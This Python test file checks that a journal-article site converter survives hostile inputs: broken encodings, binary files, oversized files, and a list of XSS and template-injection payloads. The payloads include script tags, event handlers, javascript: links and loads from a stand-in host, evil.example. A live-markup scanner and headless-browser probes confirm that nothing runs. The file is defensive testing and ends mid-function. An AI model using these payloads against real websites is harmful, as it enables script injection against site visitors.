"""Issue 8: bad input, lost text and injected markup — the converter never crashes, never loses, never executes.

One build (`--strict`) of a folder of hostile sources made here (`make_hostile`): empty, blank,
punctuation-only, binary, PDF and ZIP files; NUL bytes, control characters, a stray non-UTF-8 byte;
Windows-1251, KZ-1048, KOI8-R, UTF-16 with and without a byte-order mark, UTF-8 with one and CRLF line
ends; a line of a megabyte; three million lines; a big file; a text without front matter; a catalog
naming a missing file, an override that matches nothing and one of the wrong type; a BibTeX file that
does not parse and one that names no article; file names and catalog values with markup and line breaks;
and sources full of HTML, script, Markdown, pymdown, template and front-matter syntax (`PAYLOADS`).

Checked: a clear message for every bad file (file, line where it applies, what is wrong, what to do),
a non-zero exit under --strict, the good sources published with the same text as the corpus's own, every
payload on its page as the text it is, no live markup in any page, and in headless Chromium no dialog,
no script run (`window.__pwned` stays undefined), no request that leaves the site, no script error —
also in the search results. Then: a catalog that does not parse, the fidelity of the hostile articles,
determinism across file order, locale and hash seed, and (opt-in) the 50 MB benchmark.

`python tests/test_hostile.py OUT` writes the hostile folder to look at by hand.
"""
from __future__ import annotations

import codecs
import json
import os
import random
import re
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
from lxml import html as lxml_html

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "sources"
EN = "unknown-journal-en-article-interethnic-mechanisms.txt"
RU_FRAGMENTS = "unknown-journal-ru-fragments-interethnic-relations.txt"
RU_ARTICLE = "izvestiya-kazumoiya-ru-article-peoples-diplomacy.txt"
ISSUE = "vestnik-kaznpu-abai-socpol-2025-no2-90-issue.txt"
# The big file of the build. The 50 MB of the issue are measured by test_big_source_benchmark
# (EDITION_BIG_MB=50); in the suite a smaller file keeps the build quick.
BIG_BYTES = 1_500_000

# KOI8-R has no «», en dash or Kazakh letters: the text as a KOI8-R user would have typed it.
KOI8_TYPED = str.maketrans({"«": '"', "»": '"', "–": "-"})

# Markup, script, template, metadata and Markdown/pymdown syntax: each must reach the page as the text it
# is. Script payloads set window.__pwned (or call alert, which opens a dialog); resource payloads name
# evil.example, so a live one shows up as a request.
PAYLOADS = [
    '<script>window.__pwned = "script"</script>',
    '<script src="https://evil.example/x.js"></script>',
    '<img src="https://evil.example/x.png" onerror="window.__pwned = \'img\'">',
    "<img src=x onerror=alert(1)>",
    '<iframe src="javascript:parent.__pwned=\'iframe\'"></iframe>',
    '<svg onload="window.__pwned=\'svg\'"><circle r="1"/></svg>',
    '<a href="javascript:window.__pwned=\'a\'">click here</a>',
    '<details open ontoggle="window.__pwned=\'details\'">x</details>',
    '<input autofocus onfocus="window.__pwned=\'input\'">',
    '<object data="https://evil.example/x.swf"></object>',
    '<style>body{background:url(https://evil.example/bg.png)}</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>send</button></form>',
    "<!-- a comment that would swallow what follows",
    "&lt;script&gt;alert(2)&lt;/script&gt; &amp; &#60;b&#62;",
    '[click me](javascript:window.__pwned="mdlink")',
    "![an image](https://evil.example/md.png)",
    '![x](javascript:alert(3))',
    "<https://evil.example/autolink>",
    "[ref]: https://evil.example/refdef",
    "[^1] and [^1]: a footnote definition",
    "{{ config.site_name }} {{ page.title }}",
    '{% include "base.html" %} {# comment #} {%- raw -%}',
    '!!! danger "an admonition"',
    '??? note "a collapsible block"',
    '=== "A tab"',
    '--8<-- "README.md"',
    '{: onclick="window.__pwned=\'attr\'" }',
    '{ #evil .evil onclick="alert(4)" }',
    '<div markdown="1">**not bold**</div>',
    "```html",
    "~~~",
    "*not emphasis* _not emphasis_ **not bold** `not code` ==not marked== ~~not struck~~ ^^not inserted^^",
    "| a | b |",
    "javascript:alert(5)",
    'https://evil.example/"><script>window.__pwned="url"</script>',
    "10.1234/\"><img src=x onerror=alert(6)>",
    "data:text/html,<script>alert(7)</script>",
    "++ctrl+alt+del++ :material-alert: :smile: [[kbd]]",
]
# Lines that are only syntax (front-matter delimiters, headings, block markers) as lines of their own.
NAMED = 'name "<b>bold" & {{x}} [y](z).txt'  # a file name is source text too
NEWLINES = "line\n\n# injected heading\n\n- a list item.txt"  # … and may hold line breaks, as catalog values may
SYNTAX_LINES = ["---", "title: pwned", "...", "# not a heading", "> not a quote", "- not a list",
                "    indented, not code", "***", "=====", "<script>", "</script>"]



def injection_article() -> str:
    """A raw-text article (English and Russian front matter, body, table, figure, references) whose every
    part carries payloads."""
    p = PAYLOADS
    lines = [
        f" HOSTILE SOURCES AS DATA {p[0]} {p[23]} ",
        "",
        f"Ivanov A.B.¹, Petrov C.D.² {p[3]}",
        "",
        f"¹Al-Farabi Kazakh National University {p[4]}, Almaty, Kazakhstan",
        f"²L.N. Gumilyov Eurasian National University, Astana, Kazakhstan {p[12]}",
        "",
        "Abstract. Introduction. This text tests that whatever a source holds is shown as the text it is. "
        + " ".join(p[:12]),
        "Every string of it is data: " + " ".join(p[12:24]) + " and nothing runs.",
        f"Keywords: sources as data, {p[0]}, {p[17]}, {p[23]}, escaping",
        "",
        f" ИСТОЧНИКИ КАК ДАННЫЕ {p[2]} ",
        "",
        "Иванов А.Б.¹, Петров С.Д.²",
        "",
        f"Аннотация. Этот текст проверяет, что всё в источнике остаётся текстом: {p[5]} {p[24]} {p[18]}.",
        f"Ключевые слова: источники, {p[1]}, экранирование",
        "",
        "Introduction",
        "",
    ]
    for n, payload in enumerate(p, 1):
        lines.append(f"Sentence {n} of the body carries a payload in the middle {payload} and goes on to its end.")
        lines.append("")
    for line in SYNTAX_LINES:
        lines += [line, ""]
    lines += [
        "The list that follows is made of payloads:",
        f"1. first item {p[0]}",
        f"2. second item {p[17]}",
        f"3. third item {p[25]}",
        "",
        f"Table 1 – Payloads in a table {p[2]}",
        f"Row one {p[0]} 12 34",
        f"Row two {p[23]} 56 78",
        "",
        f"Figure 1 – A figure caption {p[5]}",
        "",
        "Conclusion",
        "",
        f"Nothing in this source may run [1, p. 5], {p[6]} and the last sentence ends here [2].",
        "",
        "References",
        "",
        f"1. Ivanov A.B. Sources as data {p[0]} // Journal of Tests. 2020. No. 1. P. 1-10. "
        "https://evil.example/\"><script>window.__pwned='ref'</script>",
        f"2. Petrov C.D. Escaping {p[17]} // Journal of Tests. 2021. No. 2. P. 11-20. "
        "DOI: 10.1234/\"><img src=x onerror=alert(8)>",
        "",
    ]
    return "\n".join(lines)


def injection_markdown() -> str:
    """The same, as a Markdown source: raw HTML, links and images of the source are text too."""
    p = PAYLOADS
    out = [
        "---", "title: pwned by front matter", "template: evil.html", "---", "",
        f"## MARKDOWN SOURCE AS DATA {p[0]}", "",
        f"**Ivanov A.B.<sup>1</sup>** {p[2]}", "",
        f"<sup>1</sup>Al-Farabi Kazakh National University, Almaty, Kazakhstan {p[4]}", "",
        "**Abstract.** This Markdown text tests raw HTML and Markdown syntax of a source: "
        + " ".join(p[:20]), "",
        f"**Keywords:** markdown, {p[18]}, {p[23]}", "",
        "## Introduction", "",
    ]
    for n, payload in enumerate(p, 1):
        out += [f"Paragraph {n} with {payload} in the middle goes on to its end.", ""]
    out += ["<script>", "window.__pwned = 'block';", "</script>", "",
            "<div markdown=\"1\">", "", "*inside a div*", "", "</div>", "",
            "```js", "window.__pwned = 'fence';", "```", "",
            f"- item {p[0]}", f"- item {p[17]}", "",
            "## References", "", f"1. A. Author. {p[0]} Title. 2020.", ""]
    return "\n".join(out)


def big_text(size: int) -> str:
    """One article with a body of `size` bytes: the English corpus article's body, repeated."""
    text = (CORPUS / EN).read_text(encoding="utf-8")
    head, sep, body = text.partition("\nIntroduction \n")
    out, n = [head, sep], 0
    while sum(len(s.encode()) for s in out) < size:
        n += 1
        out.append(f"\nPart {n}\n\n" + body.split("\nConclusions \n")[0])
    return "".join(out)


def make_hostile(folder: Path, big_bytes: int = BIG_BYTES) -> list[str]:
    """Write the hostile folder; returns the names of the sources written."""
    folder.mkdir(parents=True, exist_ok=True)
    en = (CORPUS / EN).read_text(encoding="utf-8")
    ru = (CORPUS / RU_FRAGMENTS).read_text(encoding="utf-8")
    ru_article = (CORPUS / RU_ARTICLE).read_text(encoding="utf-8")
    kk = (CORPUS / ISSUE).read_text(encoding="utf-8").split("\n")
    rnd = random.Random(8)
    files: dict[str, bytes] = {
        # good sources, in every encoding and line end
        "good-utf8.txt": en.encode("utf-8"),
        "good-cp1251.txt": ru.encode("cp1251"),
        "good-koi8r.txt": ru.translate(KOI8_TYPED).encode("koi8_r"),
        "good-kz1048.txt": "\n".join(kk[:795]).encode("kz1048", errors="replace"),
        "good-utf16le-bom.txt": codecs.BOM_UTF16_LE + en.encode("utf-16-le"),
        "good-utf16be-nobom.txt": en.encode("utf-16-be"),
        "good-utf8-bom-crlf.txt": codecs.BOM_UTF8 + ru_article.replace("\n", "\r\n").encode("utf-8"),
        # not text, or no text
        "empty.txt": b"",
        "blank.txt": b"  \n\t\r\n \n",
        "punctuation.txt": b"... --- ;;; \n\n ***\n",
        "binary.txt": bytes(rnd.randrange(256) for _ in range(6000)),
        "scan.txt": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
                    + bytes(rnd.randrange(256) for _ in range(3000)),
        "document.txt": b"PK\x03\x04\x14\x00\x06\x00" + bytes(rnd.randrange(256) for _ in range(2000)),
        # text with damage
        "nul-bytes.txt": ("Первая строка текста.\nВторая строка текста.\nТре\x00тья строка текста.\n").encode(),
        "controls.txt": en.replace("relevant and complex", "relevant \x02wzxhzdk:0\x03 and \x1b[31m complex\x07",
                                   1).encode("utf-8"),
        "stray-byte.txt": en.encode("utf-8").replace(b"Introduction.", b"Introduction\xe9.", 1),
        "no-front-matter.txt": "Просто текст без заглавия и аннотации.\nЕщё одна строка, которая продолжает "
                               "предложение\nи заканчивает его здесь.\n".encode(),
        "long-line.txt": _long_line(en).encode("utf-8"),
        "many-lines.txt": b"a\n" * 3_000_001,
        "big.txt": big_text(big_bytes).encode("utf-8"),
        # markup that must stay text
        "injection.txt": injection_article().encode("utf-8"),
        "injection.md": injection_markdown().encode("utf-8"),
        NAMED: injection_article().replace("HOSTILE SOURCES", "FILE NAME").encode(),
        NEWLINES: injection_article().replace("HOSTILE SOURCES", "LINE BREAKS").encode(),
        # a correction of the wrong type in catalog.yml
        "bad-correction.txt": (CORPUS / RU_FRAGMENTS).read_bytes(),
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    (folder / "catalog.yml").write_text(
        "journals:\n"
        "  evil:\n"
        "    name:\n"
        "      ru: \"<script>window.__pwned='journal'</script> Журнал {{ config.site_name }}\\n\\n# injected journal\"\n"
        "      en: '[Journal](javascript:alert(9)) --- !!! danger'\n"
        "sources:\n"
        "  missing.txt: {}\n"
        "  good-utf8.txt:\n"
        "    articles:\n"
        "      - match: {ordinal: 1}\n"
        "        id: good-article\n"
        f"  {json.dumps(NEWLINES)}:\n"
        "    journal: evil\n"
        "    licence: \"CC BY\\n\\n[lx](javascript:alert(12))\\n\\n# injected licence\"\n"
        "    articles:\n"
        "      - match: {ordinal: 1}\n"
        "        titles: {en: \"A title\\n\\n# injected title\\n\\n[tx](javascript:alert(13))\"}\n"
        "  bad-correction.txt:\n"
        "    articles:\n"
        "      - match: {ordinal: 1}\n"
        "        pages: first to last\n"
        "  injection.txt:\n"
        "    journal: evil\n"
        "    number: 1\n"
        "    year: 2026\n"
        "    licence: '<img src=x onerror=alert(10)> CC BY'\n"
        "    articles:\n"
        "      - match: {ordinal: 7}\n"
        "        doi: 10.1/none\n", encoding="utf-8")
    bib = folder / "bibliography"
    bib.mkdir(exist_ok=True)
    (bib / "good-article.bib").write_text(
        "@article{broken,\n  title = {Unclosed\n  year = 2020\n\n"
        "@book{fine, title = {A {<script>alert(11)</script>} book}, author = {Doe, Jane}, year = {2001}}\n",
        encoding="utf-8")
    (bib / "names-no-article.bib").write_text("@misc{x, title = {Orphan}}\n", encoding="utf-8")
    return sorted(files)


def _long_line(en: str) -> str:
    """The English article with a line of a megabyte of letters, commas and brackets in its body."""
    lines = en.split("\n")
    at = next(i for i, ln in enumerate(lines) if ln.startswith("Natural consequence"))
    lines[at] += " " + "(word, [bracket], comma; " * 40_000 + "end."
    return "\n".join(lines)


# == the build ========================================================================================
@dataclass
class Hostile:
    sources: Path
    docs: Path
    site: Path
    returncode: int
    stdout: str
    stderr: str
    seconds: float

    @property
    def articles(self) -> list[dict]:
        return json.loads((self.site / "articles.json").read_text(encoding="utf-8"))

    @property
    def report(self) -> dict:
        return json.loads((self.report_dir / "report.json").read_text(encoding="utf-8"))

    @property
    def report_dir(self) -> Path:
        return self.site.parent / "report"  # the editors' report, beside the site (never in it)

    def entries(self, source: str, kind: str | None = None) -> list[dict]:
        return [e for e in self.report["entries"] if e["source"] == source and (kind is None or e["kind"] == kind)]

    def records(self, source: str) -> list[dict]:
        return [r for r in self.articles if r["source"] == source]

    def content(self, url: str):
        tree = lxml_html.fromstring((self.site / url).read_bytes())
        return tree.xpath('//article[contains(@class,"md-content__inner")]')[0]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Hostile:
    base = tmp_path_factory.mktemp("hostile")
    make_hostile(base / "sources")
    start = time.perf_counter()
    proc = subprocess.run([sys.executable, "-m", "convert", "build", "--sources", str(base / "sources"),
                           "--docs-dir", str(base / "docs"), "--site-dir", str(base / "site"), "--strict",
                           "--no-cache"], cwd=ROOT, capture_output=True, text=True, timeout=1800)
    return Hostile(base / "sources", base / "docs", base / "site", proc.returncode, proc.stdout, proc.stderr,
                   time.perf_counter() - start)


def test_strict_build_fails_but_the_edition_is_built(hostile):
    assert hostile.returncode == 1, hostile.stdout + hostile.stderr[-3000:]  # --strict: the errors fail the run …
    assert "Traceback" not in hostile.stderr, hostile.stderr[-3000:]  # … a reported failure, not a crash …
    assert "site built in" in hostile.stdout  # … and the site is built all the same
    assert (hostile.site / "index.html").exists() and (hostile.report_dir / "index.html").exists()
    assert not (hostile.site / "report").exists()


# Each bad file: (file, kind, words of what is wrong, words of what to do, its line or None).
MESSAGES = [
    ("empty.txt", "error", "the file is empty", "put the extracted text in it", None),
    ("blank.txt", "error", "only blank lines", "put the extracted text in it", None),
    ("punctuation.txt", "error", "no letters or digits", "put the extracted text in it", None),
    ("binary.txt", "error", "not a text file", "export the article as plain text", None),
    ("scan.txt", "error", "this is a PDF file named .txt", "export it again", None),  # read as the PDF it is
    ("document.txt", "error", "ZIP archive", "save other documents as .docx or plain text", None),
    ("nul-bytes.txt", "doubt", "control character(s) (U+0000) removed", "check those lines against the PDF", 3),
    ("controls.txt", "doubt", "U+0002, U+0003, U+0007, U+001B", "check those lines against the PDF", 19),
    ("stray-byte.txt", "doubt", "not UTF-8 although the rest of the file is", "retype those characters", 17),
    ("long-line.txt", "doubt", "characters long", "check them against the PDF", None),
    ("many-lines.txt", "error", "3,000,002 lines, more than the 3,000,000", "split it", None),
    ("no-front-matter.txt", "doubt", "no title in any language", "catalog.yml can give it titles", 1),
    ("catalog.yml", "error", "names a source that does not exist: missing.txt", None, None),
    ("injection.txt", "error", "override #1 matches 0 articles", "not applied", None),
    ("good-utf8.txt", "error", "good-article.bib does not parse at line 1", "fix that entry", 1),
    ("bibliography", "error", "names-no-article.bib names no article", "the file name must be the article's URL slug",
     None),
]


@pytest.mark.parametrize("name,kind,what,todo,line", MESSAGES, ids=[m[0] for m in MESSAGES])
def test_every_bad_file_gets_a_clear_message(hostile, name, kind, what, todo, line):
    hits = [e for e in hostile.entries(name, kind) if what in e["message"]]
    assert hits, (name, [e["message"] for e in hostile.entries(name)])
    if todo:
        assert todo in hits[0]["message"]
    if line is not None:
        assert hits[0].get("line") == line, hits[0]
    if kind == "error":  # errors are printed with the file (and line) they concern
        where = hits[0].get("file", name) + (f":{hits[0]['line']}" if hits[0].get("line") else "")
        assert f"error: {where}: " in hostile.stderr
    page = (hostile.report_dir / "index.html").read_text(encoding="utf-8")
    assert lxml_html.fromstring(page).xpath(f'//td[contains(., {json.dumps(what)})]'), what


def test_a_correction_of_the_wrong_type_is_reported_and_the_rest_builds(hostile):
    errors = hostile.entries("bad-correction.txt", "error")
    assert errors and "catalog" in errors[0]["message"], hostile.entries("bad-correction.txt")


def test_unreadable_sources_are_skipped_and_nothing_else(hostile):
    published = {r["source"] for r in hostile.articles}
    skipped = {"empty.txt", "blank.txt", "punctuation.txt", "binary.txt", "scan.txt", "document.txt",
               "many-lines.txt"}
    assert not skipped & published
    readable = {p.name for p in hostile.sources.iterdir() if p.is_file() and p.suffix in (".txt", ".md")}
    assert readable - skipped - {"bad-correction.txt"} <= published, readable - skipped - published


def text_record(rec: dict) -> dict:
    return {k: rec[k] for k in ("kind", "titles", "abstracts", "keywords", "sections", "body_lang")}


@pytest.mark.parametrize("name,original,typed", [
    ("good-utf8.txt", EN, None), ("good-utf16le-bom.txt", EN, None), ("good-utf16be-nobom.txt", EN, None),
    ("good-utf8-bom-crlf.txt", RU_ARTICLE, None), ("good-cp1251.txt", RU_FRAGMENTS, None),
    ("good-koi8r.txt", RU_FRAGMENTS, KOI8_TYPED)])
def test_good_sources_are_published_with_the_corpus_text(hostile, edition, name, original, typed):
    """Decoded from whatever encoding, a source gives the same articles as the corpus's UTF-8 original."""
    mine, theirs = hostile.records(name), edition.of_source(original)
    assert len(mine) == len(theirs) >= 1
    from conftest import Edition
    from convert.render.markdown import NO_LIST

    me = Edition(hostile.docs, hostile.site, "")
    for a, b in zip(mine, theirs):
        expected = text_record(b)
        if typed:
            expected = json.loads(json.dumps(expected, ensure_ascii=False).translate(typed))
        assert text_record(a) == expected
        body, original_body = me.body_text(a["url"]), b["body_text"]
        for sentence in NO_LIST.values():  # good-utf8.txt has an editor's BibTeX file; the corpus has not
            body, original_body = body.replace(sentence, ""), original_body.replace(sentence, "")
        assert body.strip() == (original_body.translate(typed) if typed else original_body).strip()


ENCODINGS = {"good-cp1251.txt": "Windows-1251", "good-koi8r.txt": "KOI8-R", "good-kz1048.txt": "KZ-1048",
             "good-utf16le-bom.txt": "UTF-16 (byte-order mark)", "good-utf16be-nobom.txt": "UTF-16 big-endian"}


@pytest.mark.parametrize("name", sorted(ENCODINGS))
def test_encoding_is_detected_and_said(hostile, name):
    notes = [e["message"] for e in hostile.entries(name, "note")]
    assert any(f"read as {ENCODINGS[name]}" in m for m in notes), notes


def test_kazakh_text_in_kz1048_keeps_its_letters(hostile, edition):
    (rec,) = hostile.records("good-kz1048.txt")
    original = edition.of_source(ISSUE)[0]
    assert rec["titles"] == original["titles"]
    assert re.search("[әғқңөұүһі]", rec["abstracts"]["kk"])


# == markup stays text ================================================================================
def page_text(el) -> str:
    return " ".join(el.text_content().split())


INTERPRETED_IN_MARKDOWN = {  # Markdown inline formatting of a Markdown source is read as formatting
    "<https://evil.example/autolink>", '<div markdown="1">**not bold**</div>',
    "*not emphasis* _not emphasis_ **not bold** `not code` ==not marked== ~~not struck~~ ^^not inserted^^"}


@pytest.mark.parametrize("name", ["injection.txt", NAMED, "injection.md"])
def test_every_payload_is_on_the_page_as_text(hostile, name):
    (rec,) = hostile.records(name)
    text = page_text(hostile.content(rec["url"]))
    payloads = [p for p in PAYLOADS if not (name.endswith(".md") and p in INTERPRETED_IN_MARKDOWN)]
    missing = [p for p in payloads if " ".join(p.split()) not in text]
    assert not missing, missing
    if name.endswith(".txt"):
        assert not [s for s in SYNTAX_LINES if s.strip() not in text]
    # the title, with its markup, is the page's title as text
    tree = lxml_html.fromstring((hostile.site / rec["url"]).read_bytes())
    h1 = page_text(tree.xpath("//article//h1")[0])
    assert "<script>window.__pwned" in h1 and "<script>window.__pwned" in tree.findtext(".//title")


@pytest.mark.parametrize("name", ["injection.txt", NAMED, "injection.md"])
def test_syntax_makes_no_structure(hostile, name):
    """No admonition, extra tab, footnote, include, attribute or template comes out of a source."""
    (rec,) = hostile.records(name)
    content = hostile.content(rec["url"])
    assert not content.xpath('.//*[contains(@class,"admonition") or contains(@class,"footnote")]')
    assert not content.xpath(".//details | .//iframe | .//object | .//embed | .//form | .//style | .//svg"
                             " | .//base | .//input[not(ancestor::*[contains(@class,'tabbed-set')])]")
    assert not content.xpath('.//*[@id="evil" or contains(@class,"evil")]')
    tabs = content.xpath('.//div[contains(@class,"tabbed-set")]/input')
    assert len(tabs) == len(rec["titles"].keys() | rec["abstracts"].keys() | rec["keywords"].keys())
    text = page_text(content)
    assert "{{ config.site_name }}" in text and '{% include "base.html" %}' in text
    tab = page_text(content.xpath('.//div[contains(@class,"tabbed-set")]')[0])
    for site_name in ("Kazakhstan Social Science Journals", "Казахстанские журналы социальных",
                      "Қазақстанның әлеуметтік-саяси ғылымдар"):  # the site's name in each language
        assert site_name not in tab
    assert '--8<-- "README.md"' in text and "# Kazakhstan social and political science journals" not in text


@pytest.mark.parametrize("name", ["injection.txt", "injection.md"])
def test_front_matter_delimiters_make_no_metadata(hostile, name):
    (rec,) = hostile.records(name)
    md = (hostile.docs / rec["url"].replace(".html", ".md")).read_text(encoding="utf-8")
    assert md.startswith("---\n")
    import yaml

    meta = yaml.safe_load(md.split("\n---\n", 1)[0][4:])
    written = {"title", "kind", "lang", "source", "titles", "abstracts_short", "authors", "keywords_flat", "issue",
               "doi", "first_page", "last_page", "description", "head", "topics"}  # the converter's own keys
    assert set(meta) <= written, set(meta) - written
    assert meta["title"] != "pwned" and meta["kind"] == "article"
    assert meta["source"] == name


def scan_live_markup(site: Path) -> list[str]:
    """Everything in the built pages that could run or load what a source put there."""
    bad = []
    for path in sorted(site.rglob("*.html")):
        rel = path.relative_to(site).as_posix()
        tree = lxml_html.fromstring(path.read_bytes())
        for el in tree.iter():
            if not isinstance(el.tag, str):
                continue
            for key, value in el.attrib.items():
                if key.lower().startswith("on"):
                    bad.append(f"{rel}: <{el.tag} {key}=…>")
                if key in ("href", "src", "action", "data", "formaction", "srcdoc", "poster") and \
                        re.match(r"\s*(javascript|vbscript|data):", value, re.IGNORECASE):
                    bad.append(f"{rel}: <{el.tag} {key}={value[:40]!r}>")
                if key in ("src", "data", "action", "srcset", "poster") and "evil.example" in value:
                    bad.append(f"{rel}: <{el.tag} {key}={value[:40]!r}>")
            if el.tag in ("iframe", "object", "embed", "base", "frame", "applet") or (
                    el.tag == "form" and el.xpath('ancestor::article')):  # the theme's search form is its own
                bad.append(f"{rel}: <{el.tag}>")
            if el.tag in ("style", "link") and "evil.example" in lxml_html.tostring(el, encoding="unicode"):
                bad.append(f"{rel}: <{el.tag}> from a source")
            if el.tag == "meta" and (el.get("http-equiv") or "").lower() == "refresh":
                bad.append(f"{rel}: <meta http-equiv=refresh>")
            if el.tag == "script":
                if el.get("type") == "application/ld+json":
                    json.loads(el.text or "")  # valid JSON: nothing broke out of it
                elif re.search(r"pwned|alert\(|evil", (el.text or "") + (el.get("src") or "")):
                    bad.append(f"{rel}: <script> from a source")
    return bad


def test_line_breaks_in_file_names_and_catalog_values_make_no_structure(hostile):
    (rec,) = hostile.records(NEWLINES)
    assert rec["titles"]["en"].startswith("A title") and "injected title" in rec["titles"]["en"]
    for path in sorted(hostile.site.rglob("*.html")):
        tree = lxml_html.fromstring(path.read_bytes())
        heads = [page_text(h) for h in tree.xpath("//h1 | //h2 | //h3 | //h4 | //h5 | //h6")]
        assert not [h for h in heads if re.match(r"injected (heading|title|journal|licence)", h)], (path, heads)
        assert not [li for li in tree.xpath("//li") if page_text(li) == "a list item.txt"], path
    text = page_text(hostile.content(rec["url"]))
    assert "[lx](javascript:alert(12)) # injected licence" in text


def test_no_live_markup_in_any_page(hostile):
    assert scan_live_markup(hostile.site) == []


def test_search_index_holds_the_payloads_as_text(hostile):
    """The edition's search index (hooks/search.py) holds the payloads as text, in the JSON of its
    <script> files: indexed, so the search below really renders them, and inert there."""
    folder = hostile.site / "search"
    text = "".join(p.read_text(encoding="utf-8") for p in sorted(folder.glob("t-*.js")))
    assert "__pwned" in text
    for path in folder.glob("*.js"):
        body = path.read_text(encoding="utf-8")
        prefix, suffix = "window.__kzSearch&&__kzSearch.load(", ");\n"
        assert body.startswith(prefix) and body.endswith(suffix) and body.count("\n") == 1, path
        kind, _key, _data = json.loads("[" + body[len(prefix):-len(suffix)] + "]")  # nothing but JSON
        assert kind in ("manifest", "shard", "docs", "text"), path


# == nothing runs in a browser ========================================================================
from browser_support import RequestLog, StaticServer, browser, served_target  # noqa: E402

__all__ = ["browser"]  # the module-scoped Chromium fixture


def hostile_pages(hostile) -> list[str]:
    """Every page that shows text of the hostile sources: articles, issues, home, topics (in site/), and the
    editors' report beside the site; relative to the folder that holds both."""
    out = ["index.html", "topics/index.html"]
    out += sorted({r["url"] for r in hostile.articles})
    out += sorted({r["url"].rsplit("/", 1)[0] + "/index.html" for r in hostile.articles})
    for path in sorted((hostile.site / "topics").glob("*.html")):
        if re.search(r"pwned|evil|alert|\{\{|\{%", path.read_text(encoding="utf-8")):
            out.append(path.relative_to(hostile.site).as_posix())
    return [f"{hostile.site.name}/{rel}" for rel in dict.fromkeys(out)] + [f"{hostile.report_dir.name}/index.html"]


PROBE = """() => ({pwned: typeof window.__pwned === 'undefined' ? null : String(window.__pwned),
                  parentPwned: typeof parent.__pwned === 'undefined' ? null : String(parent.__pwned),
                  frames: document.querySelectorAll('iframe, object, embed').length})"""


def test_nothing_runs_when_the_pages_are_opened(hostile, browser):
    with StaticServer(hostile.site.parent) as server:  # the site and the report beside it
        target = served_target(server)
        context = browser.new_context(viewport={"width": 1280, "height": 800})
        context.set_default_timeout(20_000)
        log = RequestLog(target).attach(context)
        dialogs, console_errors, findings = [], [], []
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append(f"{page.url}: {d.type} {d.message}"), d.dismiss()))
        page.on("console", lambda m: console_errors.append(f"{page.url}: {m.text}") if m.type == "error" else None)
        pages = hostile_pages(hostile)
        for rel in pages:
            page.goto(target.url(rel))
            page.wait_for_load_state("load")
            page.wait_for_timeout(150)  # onerror/onload/autofocus handlers would have fired by now
            state = page.evaluate(PROBE)
            if state["pwned"] or state["parentPwned"] or state["frames"]:
                findings.append(f"{rel}: {state}")
        # the search renders its results from the index: type what the payloads hold
        page.goto(target.url(f"{hostile.site.name}/index.html"))
        box = page.locator("input.kz-search-input").first
        box.click()
        shown = 0
        for query in ("pwned", "script", "evil", "alert"):
            box.fill(query)
            box.press("End")
            page.locator(".kz-search-result").first.wait_for(state="visible")
            page.wait_for_timeout(300)
            state = page.evaluate(PROBE)
            if state["pwned"] or state["frames"]:
                findings.append(f"search {query!r}: {state}")
            shown += page.locator(".kz-search-result").count()
        context.close()
    assert len(pages) >= 20 and shown >= 1
    assert not dialogs, dialogs
    assert not findings, findings
    assert not log.left, log.left  # no request left the site (evil.example, javascript:, …)
    assert not log.errors and not console_errors, log.errors + console_errors
    assert not [r for r in log.requests if "evil.example" in r[1]]


# == more hostile input ===============================================================================
def test_a_catalog_that_does_not_parse_is_reported_with_its_line(tmp_path):
    folder = tmp_path / "src"
    folder.mkdir()
    (folder / "article.txt").write_bytes((CORPUS / RU_FRAGMENTS).read_bytes())
    (folder / "catalog.yml").write_text("sources:\n  article.txt:\n    number: [1\n    year: 2025\n", encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "convert", "convert", "--sources", str(folder), "--docs-dir",
                           str(tmp_path / "docs"), "--no-cache", "--strict"], cwd=ROOT, capture_output=True,
                          text=True, timeout=600)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert re.search(r"error: catalog\.yml:\d+: catalog does not parse", proc.stderr), proc.stderr
    records = json.loads((tmp_path / "docs" / "articles.json").read_text(encoding="utf-8"))
    assert [r["source"] for r in records] == ["article.txt"] * 3  # built without the catalog


def test_hostile_articles_meet_the_fidelity_target(hostile):
    """Every article keeps its words on its page — except the one whose title catalog.yml replaced:
    the words of the title printed in the source are on no page, and the check says so."""
    fidelity = hostile.report["fidelity"]
    assert fidelity["summary"]["articles"] == len(hostile.articles)
    low = {a["source"]: a for a in fidelity["articles"] if a["kept"] < 0.995}
    assert set(low) == {NEWLINES}, [(a["source"], a["kept"], a["missing"][:5]) for a in low.values()]
    replaced = {w for w, _ in low[NEWLINES]["missing"]}
    assert {"line", "breaks", "script", "__pwned"} <= replaced, replaced
    assert [e for e in hostile.entries(NEWLINES, "doubt") if e["message"].startswith("fidelity 98.")]
    assert f"warning: {NEWLINES}:" in hostile.stderr
    assert fidelity["summary"]["paragraphs_twice"] == 0, [a["paragraphs_twice"] for a in fidelity["articles"]]
    page = lxml_html.fromstring((hostile.report_dir / "index.html").read_bytes())
    assert page.xpath('//h2[@id="fidelity"]') and page.xpath('//td[contains(., "%")]')


# == determinism ======================================================================================
def tree_bytes(path: Path) -> dict[str, bytes]:
    return {p.relative_to(path).as_posix(): p.read_bytes() for p in sorted(path.rglob("*")) if p.is_file()}


def test_output_is_byte_identical_whatever_the_file_order_locale_and_hash_seed(tmp_path):
    """The corpus and some hostile sources, converted twice: files written to disk in opposite orders,
    another locale, time zone and hash seed. docs/, bibliography/ and articles.json are identical."""
    extra = tmp_path / "extra"
    make_hostile(extra, big_bytes=10_000)
    names = sorted(p.name for p in CORPUS.iterdir() if p.is_file()) + ["injection.txt", "good-cp1251.txt",
                                                                        "good-utf16be-nobom.txt", NAMED]
    runs = []
    for n, (order, env) in enumerate([(names, {"LC_ALL": "C.UTF-8", "LANG": "C.UTF-8", "PYTHONHASHSEED": "0",
                                               "TZ": "UTC"}),
                                      (names[::-1], {"LC_ALL": "C", "LANG": "kk_KZ.UTF-8",
                                                     "PYTHONHASHSEED": "4242", "TZ": "Asia/Almaty"})]):
        folder = tmp_path / f"run{n}" / "sources"
        folder.mkdir(parents=True)
        for name in order:
